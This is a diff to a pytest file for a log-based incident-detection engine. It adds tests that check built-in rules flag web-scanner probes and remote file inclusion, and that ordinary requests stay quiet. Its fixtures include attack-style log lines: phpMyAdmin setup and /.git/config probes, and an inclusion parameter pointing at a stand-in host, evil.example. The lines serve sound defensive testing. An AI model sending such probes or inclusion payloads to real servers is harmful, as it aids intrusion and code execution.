@@ -5,7 +5,7 @@ from datetime import UTC, datetime, timedelta
 import pytest
 
 from incidents.detection.attack import techniques
-from incidents.detection.engine import CorrelationState, RuleSet
+from incidents.detection.engine import CorrelationState, RuleSet, flatten
 from incidents.detection.rulesets import builtin_rules
 from incidents.detection.sigma import (
     CompiledCorrelation,
@@ -243,6 +243,17 @@ class TestCorrelation:
         assert ("burst", "src_ip=192.0.2.9") in self.fired(rules, [parsed])
 
 
+def raised(parsed: dict) -> set[str]:
+    """Threat types the full built-in rule set raises on one event by itself (rules that only feed
+    a correlation, such as every request feeding the DDoS window, raise nothing alone)."""
+    compiled = [r.compiled for r in builtin_rules()]
+    rules = RuleSet(
+        [c for c in compiled if isinstance(c, CompiledRule)],
+        [c for c in compiled if isinstance(c, CompiledCorrelation)],
+    )
+    return {rule.threat_type for rule in rules.match(flatten(parsed)) if rules.generates(rule)}
+
+
 class TestBuiltinRules:
     def test_every_attack_tag_exists_in_the_attack_data(self):
         known = techniques()
@@ -268,6 +279,44 @@ class TestBuiltinRules:
             "port_scan",
             "ddos",
         } <= covered
+
+    @pytest.mark.parametrize(
+        ("line", "threat_type"),
+        [
+            (
+                '203.0.113.5 - - [22/Nov/2026:08:00:00 +0000] "GET //phpmyadmin/scripts/setup.php HTTP/1.1" 404 47 "-" "-"',
+                "web_scanner",
+            ),
+            (
+                '203.0.113.5 - - [22/Nov/2026:08:00:00 +0000] "GET /.git/config HTTP/1.1" 404 10 "-" "curl/8.0"',
+                "web_scanner",
+            ),
+            (
+                '203.0.113.5 - - [22/Nov/2026:08:00:00 +0000] "GET /page.php?inc=http://evil.example/x.txt? HTTP/1.1" 200 9 "-" "-"',
+                "remote_file_inclusion",
+            ),
+            ('203.0.113.5 - - [22/Nov/2026:08:00:00 +0000] "" 400 0 "-" "-"', "web_scanner"),
+            ('203.0.113.5 - - [22/Nov/2026:08:00:00 +0000] "\\x16\\x03\\x01" 400 0 "-" "-"', "web_scanner"),
+        ],
+    )
+    def test_probes_remote_inclusion_and_non_http_requests_found_by_the_web_log_measurement(
+        self, line, threat_type
+    ):
+        parsed = parse_web(line)
+
+        assert parsed["parsed"]
+        assert threat_type in raised(parsed)
+
+    @pytest.mark.parametrize(
+        "line",
+        [
+            '198.51.100.2 - - [22/Nov/2026:08:00:00 +0000] "GET /login?next=https://shop.example/cart HTTP/1.1" 200 9 "-" "Mozilla/5.0"',
+            '198.51.100.2 - - [22/Nov/2026:08:00:00 +0000] "POST /api/v1/items HTTP/1.1" 400 31 "-" "Mozilla/5.0"',
+            '198.51.100.2 - - [22/Nov/2026:08:00:00 +0000] "GET /docs/environment.html HTTP/1.1" 200 900 "-" "Mozilla/5.0"',
+        ],
+    )
+    def test_redirect_parameters_rejected_api_calls_and_ordinary_pages_stay_quiet(self, line):
+        assert raised(parse_web(line)) == set()
 
     def test_the_attack_file_and_its_notice_ship_with_the_app(self):
         from incidents.detection.attack import DATA_FILE
